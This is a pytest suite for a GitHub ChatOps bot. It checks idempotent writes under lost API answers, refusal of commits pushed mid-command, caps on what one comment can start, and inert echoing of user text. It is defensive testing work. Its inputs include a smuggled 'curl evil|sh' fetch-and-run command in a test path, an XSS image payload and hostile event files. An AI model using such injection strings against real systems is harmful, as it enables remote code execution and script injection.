"""ChatOps against a GitHub that acts and then loses its answer, a PR pushed to mid-command, hostile trees and
hostile event files. Everything runs against tests/github_standin.py on 127.0.0.1."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from dspark_ci.ci.chatops.event import load_event
from dspark_ci.ci.chatops.github import GitHub
from dspark_ci.ci.chatops.handle import DEFAULT_MATRICES, ChatOpsConfig, GitHubContext, execute, handle
from dspark_ci.ci.chatops.permissions import load_permissions
from dspark_ci.ci.chatops.text import ZERO_WIDTH_SPACE
from dspark_ci.matrices import load_cells

from dspark_ci.cli import main
from tests.github_standin import FAULT_KINDS, GitHubStandIn
from tests.test_chatops_github import fleet_of_the_fixture_tree, github, permissions_file, sglang_repo  # noqa: F401

REPO = Path(__file__).resolve().parent.parent
TOKEN = "stand-in-token"
PR = 4242


def iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def event_payload(body: str, *, user: str = "maintainer", created_at: datetime | None = None, **changes) -> dict:
    event = {"action": "created",
             "issue": {"number": PR, "user": {"login": "someone"}, "pull_request": {"url": "x"}},
             "comment": {"id": 99, "body": body, "user": {"login": user, "type": "User"},
                         "author_association": "MEMBER",
                         "created_at": iso(created_at or datetime.now(timezone.utc))},
             "repository": {"full_name": "sgl-project/sglang", "default_branch": "main"}}
    event.update(changes)
    return event


def write_event(tmp_path: Path, payload) -> Path:
    path = tmp_path / "event.json"
    path.write_text(json.dumps(payload))
    return path


def run_once(tmp_path, sglang_repo, permissions_file, github: GitHubStandIn, body: str, **event_changes):
    """handle + execute as `dspark-ci chatops` does, with a client whose timeout the stand-in can outlast."""
    event = load_event(write_event(tmp_path, event_payload(body, **event_changes)))
    client = GitHub(token=TOKEN, repo="sgl-project/sglang", api_url=github.url, timeout_seconds=0.5,
                    backoff_seconds=0.05)
    config = ChatOpsConfig(repo_root=sglang_repo, users=load_permissions(permissions_file, "permissions.json"),
                           tree_sha=github.state.head_sha)
    outcome = handle(event, config, GitHubContext(client, PR))
    return outcome, execute(outcome, event, client)


# --- at most one of each write, whatever GitHub does ------------------------------------------

WRITES = {  # write kind -> (the request it is, the command that makes it)
    "dispatch": ("POST", r"/dispatches$", "/rerun-test test_eagle_small.py"),
    "reply": ("POST", r"/issues/\d+/comments$", "/rerun-test test_eagle_small.py"),
    "reaction": ("POST", r"/reactions$", "/rerun-test test_eagle_small.py"),
    "label": ("POST", r"/labels$", "/tag-run-ci-label"),
}


@pytest.mark.parametrize("fault", FAULT_KINDS)
@pytest.mark.parametrize("kind", WRITES)
def test_a_write_performed_then_lost_is_found_not_repeated(tmp_path, sglang_repo, permissions_file, github,
                                                           kind, fault):
    method, path, command = WRITES[kind]
    github.state.slow_seconds = 1.5  # past the client's 0.5 s timeout
    github.fault_after(method, path, fault)
    outcome, done = run_once(tmp_path, sglang_repo, permissions_file, github, command)
    assert done.failed == [] and done.warnings == []
    assert len(github.replies()) == 1 and github.state.reactions == [(99, "+1")]
    if command.startswith("/rerun-test"):
        (dispatch,) = github.state.dispatches
        assert dispatch["inputs"]["request"] == "c99-0" and dispatch["inputs"]["sha"] == github.state.head_sha
        assert "⏳ queued" in github.replies()[0]
    else:
        assert github.state.labels == ["run-ci"] and "Added the `run-ci` label" in github.replies()[0]
    assert len(github.times_of(method, "")) >= 1


@pytest.mark.parametrize("fault", ["502", "reset"])
def test_the_cli_dispatches_and_replies_once_when_the_answer_is_lost(tmp_path, sglang_repo, permissions_file, github,
                                                                     fault):
    github.fault_after("POST", r"/dispatches$", fault)
    github.fault_after("POST", r"/issues/\d+/comments$", fault)
    code = main(["chatops", "--event", str(write_event(tmp_path, event_payload("/rerun-test test_eagle_small.py"))),
                 "--repo-root", str(sglang_repo), "--permissions", str(permissions_file),
                 "--head-sha", github.state.head_sha])
    assert code == 0
    assert len(github.state.dispatches) == 1 and len(github.replies()) == 1
    assert github.state.dispatches[0]["inputs"]["reply_comment_id"] == str(next(iter(github.state.comments)))


@pytest.mark.parametrize("fault", FAULT_KINDS)
def test_a_failed_run_is_rerun_once_when_the_answer_is_lost(tmp_path, sglang_repo, permissions_file, github, fault):
    github.state.slow_seconds = 1.5
    github.state.runs.append({"id": 7, "head_sha": github.state.head_sha, "status": "completed",
                              "conclusion": "failure"})
    github.fault_after("POST", r"/actions/runs/7/rerun-failed-jobs$", fault)
    _, done = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-failed-ci")
    assert done.failed == [] and github.state.runs[0]["reruns"] == 1 and len(github.replies()) == 1


def test_handling_the_same_comment_twice_writes_nothing_twice(tmp_path, sglang_repo, permissions_file, github):
    """A re-run of the ChatOps job (or a duplicate delivery) finds its reply and its runs."""
    commented = datetime.now(timezone.utc).replace(microsecond=0)  # one comment: one creation time
    for _ in range(2):
        _, done = run_once(tmp_path, sglang_repo, permissions_file, github,
                           "/rerun-test test_eagle_small.py test_dspark_tp8.py", created_at=commented)
        assert done.failed == []
    assert len(github.replies()) == 1 and len(github.state.dispatches) == 2
    assert len(github.state.reactions) == 1


def test_a_label_that_fails_for_good_is_not_claimed(tmp_path, sglang_repo, permissions_file, github):
    github.fail("POST", r"/labels$", 403, body='{"message": "Resource not accessible by integration"}')
    _, done = run_once(tmp_path, sglang_repo, permissions_file, github, "/tag-run-ci-label")
    (reply,) = github.replies()
    assert [what for what, _ in done.failed] == ["add_label"]
    assert "Added the" not in reply and "add label failed" in reply and github.state.labels == []


# --- the commit that runs is the one reviewed --------------------------------------------------

def test_a_push_after_the_comment_is_refused_and_nothing_runs(tmp_path, sglang_repo, permissions_file, github):
    commented = datetime.now(timezone.utc) - timedelta(minutes=2)
    github.push("d" * 40, iso(commented + timedelta(seconds=30)))  # the tree checked out was the new head
    outcome, done = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-test test_eagle_small.py",
                             created_at=commented)
    assert github.state.dispatches == [] and outcome.exit_code == 1
    (reply,) = github.replies()
    assert "after your comment" in reply and "comment again" in reply
    assert github.state.reactions == [(99, "confused")]


def test_a_push_in_the_same_second_as_the_comment_is_refused(tmp_path, sglang_repo, permissions_file, github):
    commented = datetime.now(timezone.utc).replace(microsecond=0) - timedelta(minutes=1)
    github.push("d" * 40, iso(commented))  # GitHub's clock: the same second; the decide job checked this out
    outcome, _ = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-test test_eagle_small.py",
                          created_at=commented)
    assert github.state.dispatches == [] and outcome.exit_code == 1
    (reply,) = github.replies()
    assert "in the same second as your comment" in reply and "comment again" in reply


def test_a_head_that_cannot_be_known_is_refused(tmp_path, sglang_repo, permissions_file, github):
    github.fail("GET", r"/activity\?", 404, body='{"message": "Not Found"}')
    outcome, _ = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-test test_eagle_small.py")
    assert github.state.dispatches == [] and outcome.exit_code == 1
    assert "the commit you reviewed cannot be known: GitHub did not list the pushes" in github.replies()[0]


def test_an_event_without_the_comment_time_fails_closed(capsys, tmp_path, sglang_repo, permissions_file, github):
    payload = event_payload("/rerun-test test_eagle_small.py")
    del payload["comment"]["created_at"]
    code = main(["chatops", "--event", str(write_event(tmp_path, payload)), "--repo-root", str(sglang_repo),
                 "--permissions", str(permissions_file), "--head-sha", github.state.head_sha])
    assert code == 1 and github.state.dispatches == []
    assert "does not say when your comment was written" in github.replies()[0]


def test_a_head_that_moved_after_checkout_is_refused(tmp_path, sglang_repo, permissions_file, github):
    checked_out = github.state.head_sha
    event = write_event(tmp_path, event_payload("/rerun-test test_eagle_small.py"))
    github.push("e" * 40, iso(datetime.now(timezone.utc) - timedelta(hours=1)))  # moved, whatever the clocks say
    code = main(["chatops", "--event", str(event), "--repo-root", str(sglang_repo), "--permissions",
                 str(permissions_file), "--head-sha", checked_out])
    assert code == 1 and github.state.dispatches == []
    assert "the PR head moved while this command was handled" in github.replies()[0]


def test_a_head_pushed_before_the_comment_runs_exactly_that_commit(tmp_path, sglang_repo, permissions_file, github):
    outcome, _ = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-test test_eagle_small.py")
    assert outcome.exit_code == 0
    assert [d["inputs"]["sha"] for d in github.state.dispatches] == [github.state.head_sha]


# --- caps and budgets --------------------------------------------------------------------------

@pytest.fixture
def big_tree(sglang_repo: Path) -> Path:
    """10,000 registered test files in 100 folders."""
    for folder in range(100):
        directory = sglang_repo / "test/registered" / f"area{folder:03d}"
        directory.mkdir()
        for index in range(100):
            (directory / f"test_case_{index:03d}.py").write_text('register_cuda_ci(est_time=5, suite="nightly-1-gpu")\n')
    return sglang_repo


# Every cell of the matrices ChatOps reads, all named by one pattern: more than one comment may start.
ALL_CELLS = len(load_cells([str(Path(__file__).resolve().parent.parent / m) for m in DEFAULT_MATRICES]))


@pytest.mark.parametrize("comment, says", [
    pytest.param("/rerun-test *", f"match {ALL_CELLS} matrix cells; at most 20", id="star"),
    pytest.param("/rerun-test cell:*", f"match {ALL_CELLS} matrix cells; at most 20", id="every-cell"),
    pytest.param("/rerun-test " + " ".join(f"registered/area{i:03d}/test_*.py" for i in range(20)),
                 "match more than 20 test files", id="twenty-globs"),
    pytest.param("/rerun-test registered/**/test_case_00?.py", "match more than 20 test files", id="recursive"),
])
def test_what_one_comment_can_start_is_capped(capsys, big_tree, permissions_file, comment, says):
    code = main(["chatops", "--comment", comment, "--user", "maintainer", "--author-association", "MEMBER",
                 "--repo-root", str(big_tree), "--permissions", str(permissions_file), "--pr", "1", "--repo",
                 "o/n", "--dry-run", "--format", "json"])
    result = json.loads(capsys.readouterr().out)
    assert code == 2 and says in result["reply"] and result["plan"]["actions"] == []


def test_a_tree_that_cannot_be_searched_within_the_budget_is_refused(big_tree, monkeypatch):
    from dspark_ci.ci.chatops import resolve_test_paths

    monkeypatch.setattr(resolve_test_paths, "SEARCH_SECONDS", 0.0)
    with pytest.raises(resolve_test_paths.TreeRefused, match="could not be searched within 0 s"):
        resolve_test_paths.scan_tree(big_tree, resolve_test_paths.Deadline(0.0))


def test_the_cooldown_reads_the_newest_comments(tmp_path, sglang_repo, permissions_file, github):
    old = iso(datetime.now(timezone.utc) - timedelta(days=2))
    for index in range(350):  # an old, busy PR: the marker below is past the first 300
        github.add_comment(f"chatter {index}", user={"login": "someone", "type": "User"}, created_at=old)
    github.add_comment("<!--chatops:accepted:helper-->",
                       created_at=iso(datetime.now(timezone.utc) - timedelta(minutes=5)))
    outcome, _ = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-failed-ci", user="helper")
    assert outcome.exit_code == 1 and "Your cooldown is 60 minutes" in outcome.reply


# --- what a reply echoes ------------------------------------------------------------------------

def test_markup_in_a_pr_file_name_is_escaped_in_the_reply(tmp_path, sglang_repo, permissions_file, github):
    folder = sglang_repo / "test/registered/<img src=x onerror=alert(1)>"
    folder.mkdir()
    (folder / "test_h.py").write_text('register_cuda_ci(est_time=5, suite="nightly-1-gpu")\n')
    outcome, _ = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-test test_h.py")
    (reply,) = github.replies()
    assert "test/registered/&lt;img src=x onerror=alert(1)&gt;/test_h.py" in reply
    assert "<img" not in reply and github.state.dispatches == [] and outcome.exit_code == 2


@pytest.mark.parametrize("arg, inert", [
    pytest.param("#123", f"#{ZERO_WIDTH_SPACE}123", id="issue-reference"),
    pytest.param("[x](https://evil.example)", f"\\[x\\](https:{ZERO_WIDTH_SPACE}//evil.example)", id="link"),
    pytest.param("<b>x</b>", "&lt;b&gt;x&lt;/b&gt;", id="html"),
])
def test_arguments_are_echoed_inert(tmp_path, sglang_repo, permissions_file, github, arg, inert):
    run_once(tmp_path, sglang_repo, permissions_file, github, f"/rerun-test {arg}")
    (reply,) = github.replies()
    assert inert in reply and arg not in reply


def test_a_reply_is_bounded(capsys, sglang_repo, permissions_file):
    specs = " ".join(f"registered/{'x' * 150}{i:02d}/test_{'y' * 30}.py" for i in range(20))
    code = main(["chatops", "--comment", f"/rerun-test {specs}", "--user", "maintainer", "--author-association",
                 "MEMBER", "--repo-root", str(sglang_repo), "--permissions", str(permissions_file), "--pr", "1",
                 "--repo", "o/n", "--dry-run", "--format", "json"])
    reply = json.loads(capsys.readouterr().out)["reply"]
    assert code == 2 and len(reply) < 20_000 and reply.count("⛔") >= 20


# --- events that are no command ----------------------------------------------------------------

@pytest.mark.parametrize("changes, why", [
    pytest.param({"action": "edited"}, "the comment was edited", id="edited"),
    pytest.param({"action": "deleted"}, "the comment was deleted", id="deleted"),
    pytest.param({"user": "dspark-bot[bot]"}, "is a bot", id="bot"),
])
def test_events_that_are_no_command_get_nothing(capsys, tmp_path, sglang_repo, permissions_file, github,
                                                changes, why):
    user = changes.pop("user", "maintainer")
    event = write_event(tmp_path, event_payload("/rerun-test test_eagle_small.py", user=user, **changes))
    code = main(["chatops", "--event", str(event), "--repo-root", str(sglang_repo), "--permissions",
                 str(permissions_file)])
    assert code == 2 and why in capsys.readouterr().err
    assert github.state.comments == {} and github.state.reactions == [] and github.state.dispatches == []
    assert github.state.requests == []  # not even a permission check


def test_a_slash_comment_of_no_command_gets_no_reaction(capsys, tmp_path, sglang_repo, permissions_file, github):
    event = write_event(tmp_path, event_payload("/lgtm ship it"))
    code = main(["chatops", "--event", str(event), "--repo-root", str(sglang_repo), "--permissions",
                 str(permissions_file)])
    assert code == 2 and github.state.reactions == [] and github.state.comments == {}


def hostile_event_files() -> dict[str, bytes]:
    """A corpus of event files GitHub would never write (and some it would), as raw bytes."""
    good = event_payload("/rerun-test test_eagle_small.py")
    corpus: dict[str, bytes] = {
        "latin-1": json.dumps(good).replace("test_eagle", "t\u00e9st").encode("latin-1"),
        "utf-16": json.dumps(good).encode("utf-16"),
        "utf-8-bom": b"\xef\xbb\xbf" + json.dumps(good).encode(),
        "invalid-bytes": b'{"comment": "\xff\xfe\xfd"}',
        "deep-list": b"[" * 100_000 + b"]" * 100_000,
        "deep-object": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
        "deep-in-comment": json.dumps({**good, "comment": {**good["comment"], "x": [[[[[[[[]]]]]]]]}}).encode()
        .replace(b"[[[[[[[[]]]]]]]]", b"[" * 200 + b"]" * 200),
        "empty": b"", "null": b"null", "list": b"[]", "number": b"7", "string": b'"event"',
        "nan": json.dumps(good).replace('"id": 99', '"id": NaN').encode(),
        "huge-int": json.dumps(good).replace('"id": 99', '"id": ' + "9" * 5000).encode(),
        "truncated": json.dumps(good).encode()[:-10],
        "nul-bytes": json.dumps(good).encode().replace(b"maintainer", b"main\x00tainer"),
    }
    mutations = {
        "pull-request-null": lambda e: e["issue"].update(pull_request=None),
        "pull-request-text": lambda e: e["issue"].update(pull_request="yes"),
        "empty-login": lambda e: e["comment"]["user"].update(login=""),
        "blank-login": lambda e: e["comment"]["user"].update(login="   "),
        "login-null": lambda e: e["comment"]["user"].update(login=None),
        "user-null": lambda e: e["comment"].update(user=None),
        "body-null": lambda e: e["comment"].update(body=None),
        "body-huge": lambda e: e["comment"].update(body="/rerun-test " + "a" * 1_000_000),
        "body-control": lambda e: e["comment"].update(body="/rerun-test \x1b[31mtest_x.py\x07\u202e"),
        "action-number": lambda e: e.update(action=3),
        "created-at-garbage": lambda e: e["comment"].update(created_at="yesterday"),
        "created-at-naive": lambda e: e["comment"].update(created_at="2026-01-01T00:00:00"),
        "number-text": lambda e: e["issue"].update(number="4242"),
        "number-bool": lambda e: e["issue"].update(number=True),
        "number-negative": lambda e: e["issue"].update(number=-1),
        "number-zero": lambda e: e["issue"].update(number=0),
        "comment-id-float": lambda e: e["comment"].update(id=9.5),
        "repository-list": lambda e: e.update(repository=[]),
        "user-type-list": lambda e: e["comment"]["user"].update(type=[]),
        "issue-missing": lambda e: e.pop("issue"),
        "edited": lambda e: e.update(action="edited"),
        "bot": lambda e: e["comment"]["user"].update(type="Bot"),
    }
    for name, mutate in mutations.items():
        event = json.loads(json.dumps(good))
        mutate(event)
        corpus[name] = json.dumps(event).encode()
    return corpus


def test_no_event_file_gives_a_traceback(capsys, tmp_path, sglang_repo, permissions_file):
    outcomes = {}
    for name, raw in hostile_event_files().items():
        path = tmp_path / f"{name}.json"
        path.write_bytes(raw)
        code = main(["chatops", "--event", str(path), "--repo-root", str(sglang_repo), "--permissions",
                     str(permissions_file), "--dry-run", "--format", "json"])
        _, err = capsys.readouterr()
        outcomes[name] = (code, err)
    crashed = {name: o for name, o in outcomes.items() if o[0] not in (0, 1, 2) or "Traceback" in o[1]}
    assert crashed == {}
    unreadable = [n for n in ("latin-1", "utf-16", "invalid-bytes", "deep-list", "deep-object", "deep-in-comment",
                              "pull-request-null", "empty-login", "blank-login", "created-at-garbage",
                              "number-zero", "number-negative")]
    assert {name: outcomes[name][0] for name in unreadable} == dict.fromkeys(unreadable, 2)
    assert "not UTF-8" in outcomes["utf-16"][1] and "nested deeper than" in outcomes["deep-list"][1]
    assert "is not a pull request" in outcomes["pull-request-null"][1]
    assert "comment.user.login is empty" in outcomes["empty-login"][1]
    assert "issue.number is 0: not a pull request number" in outcomes["number-zero"][1]


def test_a_fifo_as_the_event_file_exits_2_without_waiting_for_a_writer(tmp_path, permissions_file):
    fifo = tmp_path / "event.json"
    os.mkfifo(fifo)
    proc = subprocess.run([sys.executable, "-m", "dspark_ci", "chatops", "--event", str(fifo), "--permissions",
                           str(permissions_file), "--dry-run"], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "PYTHONPATH": str(REPO)}, cwd=REPO)
    assert proc.returncode == 2 and "not a regular file" in proc.stderr and "Traceback" not in proc.stderr


def test_a_hostile_event_file_exits_2_from_the_console_script(tmp_path, permissions_file):
    path = tmp_path / "event.json"
    path.write_bytes(b"[" * 100_000 + b"]" * 100_000)
    proc = subprocess.run([sys.executable, "-m", "dspark_ci", "chatops", "--event", str(path), "--permissions",
                           str(permissions_file), "--dry-run"], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "PYTHONPATH": str(REPO)}, cwd=REPO)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "nested deeper than 64 levels" in proc.stderr


# --- the workflow's two jobs: decide (reads, has the PR tree) and act (writes, never sees it) ----------

def decide(tmp_path, sglang_repo, permissions_file, github, body="/rerun-test test_eagle_small.py test_dspark_tp8.py"):
    event = write_event(tmp_path, event_payload(body))
    decision = tmp_path / "decision.json"
    code = main(["chatops", "--event", str(event), "--repo-root", str(sglang_repo), "--permissions",
                 str(permissions_file), "--head-sha", github.state.head_sha, "--decision-out", str(decision)])
    return code, event, decision


def test_the_decide_job_writes_nothing_and_the_act_job_carries_it_out(capsys, tmp_path, sglang_repo,
                                                                     permissions_file, github):
    code, event, decision = decide(tmp_path, sglang_repo, permissions_file, github)
    assert code == 0 and decision.exists()
    assert [m for _, m, _ in github.state.requests if m != "GET"] == []
    assert main(["chatops", "--event", str(event), "--carry-out", str(decision)]) == 0
    assert len(github.replies()) == 1 and len(github.state.dispatches) == 2
    assert {d["inputs"]["sha"] for d in github.state.dispatches} == {github.state.head_sha}


@pytest.mark.parametrize("tamper, what", [
    pytest.param(lambda d: d["plan"]["actions"][0].update(workflow="release.yml"), "never plans", id="other-workflow"),
    pytest.param(lambda d: d["plan"]["actions"][0]["inputs"].update(tests='[["x.py;curl evil|sh"]]'), "never plans",
                 id="unsafe-test-path"),
    pytest.param(lambda d: d["plan"]["actions"].append({"type": "add_label", "label": "approved", "says": ""}),
                 "never plans", id="other-label"),
    pytest.param(lambda d: d["plan"].update(pr=1), "about another comment", id="other-pr"),
    pytest.param(lambda d: d["plan"]["actions"][0]["inputs"].update(runner="99999-gpu-h100"), "never plans",
                 id="runner-outside-the-fleet"),
    pytest.param(lambda d: d.update(exit_code=99), "not one of ours", id="exit-code"),
])
def test_a_decision_that_chatops_would_never_make_is_refused_before_any_write(capsys, tmp_path, sglang_repo,
                                                                              permissions_file, github, tamper, what):
    _, event, decision = decide(tmp_path, sglang_repo, permissions_file, github)
    data = json.loads(decision.read_text())
    tamper(data)
    decision.write_text(json.dumps(data))
    code = main(["chatops", "--event", str(event), "--carry-out", str(decision)])
    assert code == 2 and what in capsys.readouterr().err
    assert github.state.comments == {} and github.state.dispatches == [] and github.state.labels == []


def test_a_cell_rerun_is_its_own_request_and_names_its_reply(tmp_path, sglang_repo, permissions_file, github):
    github.fault_after("POST", r"/dispatches$", "502")
    _, done = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-test cell:*-tp8-dp8-dpattn-*")
    (dispatch,) = github.state.dispatches
    (reply_id,) = github.state.comments
    assert done.failed == [] and dispatch["workflow"] == "nightly.yml"
    assert dispatch["inputs"]["request"] == "c99-0" and dispatch["inputs"]["reply_comment_id"] == str(reply_id)
    assert dispatch["inputs"]["reply_marker"] in github.state.comments[reply_id]["body"]


@pytest.mark.parametrize("seed", range(12))
def test_whatever_the_api_does_no_write_happens_twice(tmp_path, sglang_repo, permissions_file, github, seed):
    """Random lost answers on every write, random 502s on reads, dispatches refused and reply edits failing: per
    group one dispatch or none, at most one reply (and one correction per group), and what was said is what was
    done: a group dispatched shows queued, a group not dispatched is marked so or corrected."""
    import random

    chance = random.Random(seed)
    github.state.slow_seconds = 0.8
    for method, path in (("POST", r"/dispatches$"), ("POST", r"/issues/\d+/comments$"), ("POST", r"/reactions$")):
        github.fault_after(method, path, chance.choice(FAULT_KINDS), times=chance.randint(0, 2))
    for path in (r"/runs\?", r"/issues/\d+/comments\?", r"/pulls/"):
        github.fail("GET", path, 502, body="Bad Gateway", times=chance.randint(0, 2))
    github.fail("POST", r"/dispatches$", 422, body='{"message": "no"}', times=chance.randint(0, 1))
    github.fail("PATCH", r"/issues/comments/\d+$", 500, body="boom", times=chance.choice([0, 100]))
    _, done = run_once(tmp_path, sglang_repo, permissions_file, github,
                       "/rerun-test test_eagle_small.py test_dspark_tp8.py")
    requests = [d["inputs"]["request"] for d in github.state.dispatches]
    replies = github.replies()
    assert len(requests) == len(set(requests)) and len(github.state.reactions) <= 1
    if not replies:
        assert requests == [] and github.state.reactions == []  # no reply: nothing ran, no 👍 left
        return
    reply, corrections = replies[0], replies[1:]
    for group, runner in enumerate(("1-gpu-h100", "8-gpu-h200")):
        line = next(line for line in reply.splitlines() if f"`{runner}`" in line)
        corrected = any(f"`{runner}` was **not dispatched**" in c for c in corrections)
        if f"c99-{group}" in requests:
            assert "⏳ queued" in line and not corrected
        else:
            assert "not dispatched" in line or corrected, (line, corrections)
    if not done.failed:
        assert sorted(requests) == ["c99-0", "c99-1"] and len(replies) == 1


# --- a runner label nobody runs is refused before dispatch ---------------------------------------

def test_a_runner_label_outside_the_fleet_is_refused_before_dispatch(tmp_path, sglang_repo, permissions_file,
                                                                     github):
    (sglang_repo / "test/registered/spec/test_stray.py").write_text(
        'register_cuda_ci(est_time=5, stage="stage-c", runner_config="99999-gpu-h100")\n')
    outcome, done = run_once(tmp_path, sglang_repo, permissions_file, github,
                             "/rerun-test test_stray.py test_eagle_small.py")
    assert outcome.exit_code == 2 and github.state.dispatches == [] and done.failed == []
    (reply,) = github.replies()
    assert "⛔ test_stray.py: needs runner 99999-gpu-h100, which is not in our fleet" in reply
    assert "queued" not in reply and "Nothing was dispatched" in reply


def test_the_fleet_is_ci_nightly_fleet_json(capsys, sglang_repo, permissions_file, tmp_path):
    fleet = tmp_path / "only-h200.json"
    fleet.write_text('{"8-gpu-h200": 4}')
    argv = ["chatops", "--comment", "/rerun-test test_eagle_small.py", "--user", "maintainer", "--author-association",
            "MEMBER", "--repo-root", str(sglang_repo), "--permissions", str(permissions_file), "--pr", "1",
            "--repo", "o/n", "--dry-run", "--format", "json"]
    assert main(argv + ["--fleet", str(fleet)]) == 2
    assert "needs runner 1-gpu-h100, which is not in our fleet (8-gpu-h200, ubuntu-latest)" in capsys.readouterr().out
    assert main(argv) == 0  # the fixture's fleet: ci/nightly/fleet.json and the labels the fixture tree names


# --- a reply never says more than was done ------------------------------------------------------

def test_a_failed_dispatch_whose_reply_cannot_be_edited_is_corrected(tmp_path, sglang_repo, permissions_file, github):
    github.fail("POST", r"/dispatches$", 422, body='{"message": "Unexpected inputs"}')
    github.fail("PATCH", r"/issues/comments/\d+$", 500, body="boom", times=100)
    _, done = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-test test_eagle_small.py")
    assert github.state.dispatches == [] and [what for what, _ in done.failed] == ["dispatch <!--rrt:0-->"]
    first, correction = github.replies()
    assert "⏳ queued" in first  # GitHub would not let it be edited ...
    assert "Correction to the reply above: `1-gpu-h100` was **not dispatched**" in correction  # ... so it is corrected


def test_a_reply_that_cannot_be_posted_takes_its_thumbs_up_back(capsys, tmp_path, sglang_repo, permissions_file,
                                                                 github):
    github.fail("POST", r"/issues/\d+/comments$", 403, body='{"message": "Resource not accessible"}', times=100)
    code = main(["chatops", "--event", str(write_event(tmp_path, event_payload("/rerun-test test_eagle_small.py"))),
                 "--repo-root", str(sglang_repo), "--permissions", str(permissions_file),
                 "--head-sha", github.state.head_sha])
    err = capsys.readouterr().err
    assert code == 3 and "not everything was carried out" in err and "Traceback" not in err
    assert github.state.comments == {} and github.state.dispatches == []
    assert github.state.reactions == [] and len(github.times_of("DELETE", "/reactions/")) == 1


# --- a dispatch repeated because its run was listed late runs once --------------------------------

def guard(github: GitHubStandIn, capsys, run_id: int, request: str = "c99-0") -> str:
    from dspark_ci.ci.chatops.duplicate_run import main as duplicate_run

    # GITHUB_TOKEN and GITHUB_API_URL are the github fixture's.
    code = duplicate_run(["--repo", "sgl-project/sglang", "--workflow", "rerun-test.yml", "--request", request,
                          "--run-id", str(run_id)])
    out = capsys.readouterr().out
    assert code == 0
    return out.strip()


def test_a_run_listed_too_late_is_dispatched_again_and_the_repeat_does_nothing(capsys, tmp_path, sglang_repo,
                                                                               permissions_file, github):
    github.state.listing_lag_seconds = 3600  # GitHub lists the run later than any dispatcher waits
    github.fault_after("POST", r"/dispatches$", "502")
    _, done = run_once(tmp_path, sglang_repo, permissions_file, github, "/rerun-test test_eagle_small.py")
    first, repeat = (run["id"] for run in github.state.runs)
    assert done.failed == [] and len(github.state.dispatches) == 2  # nothing could tell the first was made
    github.state.listing_lag_seconds = 0
    for run in github.state.runs:
        run["listed_from"] = 0  # by the time the runs start, both are listed
    assert (guard(github, capsys, first), guard(github, capsys, repeat)) == ("duplicate=false", "duplicate=true")
    assert guard(github, capsys, repeat, request="c99-1") == "duplicate=false"  # another group is no repeat


def test_a_run_without_a_request_is_never_a_duplicate(capsys, github):
    assert guard(github, capsys, 1, request="") == "duplicate=false"
    assert github.state.requests == []


def test_the_guard_step_writes_its_answer_for_the_jobs_after_it(tmp_path, github):
    from tests.test_workflows import GITHUB_BASH, _step_script, tree_under_test_env

    github.state.runs += [{"id": 5, "workflow": "rerun-test.yml", "created_at": now_iso_minus(0),
                           "display_title": "[rerun-test] 1-gpu-h100 PR #4242 [c99-0]"},
                          {"id": 6, "workflow": "rerun-test.yml", "created_at": now_iso_minus(0),
                           "display_title": "[rerun-test] 1-gpu-h100 PR #4242 [c99-0]"}]
    output = tmp_path / "github_output"
    env = tree_under_test_env(tmp_path, GITHUB_TOKEN=TOKEN, GITHUB_API_URL=github.url, GITHUB_OUTPUT=str(output),
                              GITHUB_REPOSITORY="sgl-project/sglang", GITHUB_RUN_ID="6", REQUEST="c99-0",
                              WORKFLOW="rerun-test.yml")
    script = _step_script("rerun-test.yml", "guard", "Is this run a repeated dispatch?")
    done = subprocess.run([*GITHUB_BASH, script], env=env, cwd=REPO, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert output.read_text() == "duplicate=true\n" and "repeats an earlier dispatch of c99-0" in done.stderr


def now_iso_minus(minutes: int) -> str:
    return iso(datetime.now(timezone.utc) - timedelta(minutes=minutes))


def test_the_default_fleet_knows_the_runners_sglang_runs_registered_tests_on():
    from dspark_ci.ci.chatops.fleet import load_fleet
    from dspark_ci.ci.chatops.sglang_registrations import runner_label

    fleet = load_fleet()
    # SGLang's runner configs (scripts/ci/runner_configs.yml) name real runners: their reruns are dispatched.
    assert {runner_label("cuda", config, None) for config in ("1-gpu-small", "1-gpu-large", "2-gpu-large",
                                                              "4-gpu-b200")} <= fleet
    assert runner_label("cuda", "99999-gpu-h100", None) not in fleet  # a label no runner carries is not
